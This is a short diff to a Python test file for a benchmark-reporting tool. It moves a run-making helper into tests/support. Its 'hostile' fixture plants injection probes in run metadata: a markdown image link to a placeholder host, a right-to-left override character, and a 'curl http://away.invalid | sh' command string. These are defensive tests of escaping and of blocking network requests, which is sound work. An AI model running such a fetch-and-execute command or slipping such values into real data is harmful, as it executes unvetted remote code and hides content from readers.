@@ -18,16 +18,16 @@ import pypdf
 import pytest
 import yaml
 
-from benchmarks.support.manifests import rewrite
 from robustbench_sgdm import report
 from robustbench_sgdm.core import escaping, resources
 from robustbench_sgdm.core.escaping import markdown
 from robustbench_sgdm.core.untrusted_input import escape_control_chars
 from robustbench_sgdm.figures import RunAnalysis
 from robustbench_sgdm.store import Run
+from tests.support import synthetic_runs
+from tests.support.synthetic_runs import rewrite
 
 APP = resources.root() / "app"
-made_run = resources.import_file(resources.root() / "benchmarks/support/made_run.py")
 
 AWAY = "http://away.invalid"  # a request to it is one too many
 MODELS = [
@@ -68,7 +68,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Run:
     """A run all of whose texts are made to be something else; a training of the same kind lies beside it."""
     folder = tmp_path_factory.mktemp("hostile")
     name = f"![r]({AWAY.replace('/', ':')}) :smile: $r$ \u202e"
-    run = made_run.make_run(folder, name, MODELS, CORRUPTIONS, images=6, resamples=True, leave=1)
+    run = synthetic_runs.make_run(folder, name, MODELS, CORRUPTIONS, images=6, resamples=True, leave=1)
     parts = {
         "command": f"curl {AWAY} | sh  # {HOSTILE}",
         "data": {"name": HOSTILE, "source": HOSTILE, "ground_truth": HOSTILE, "notes": [HOSTILE]},
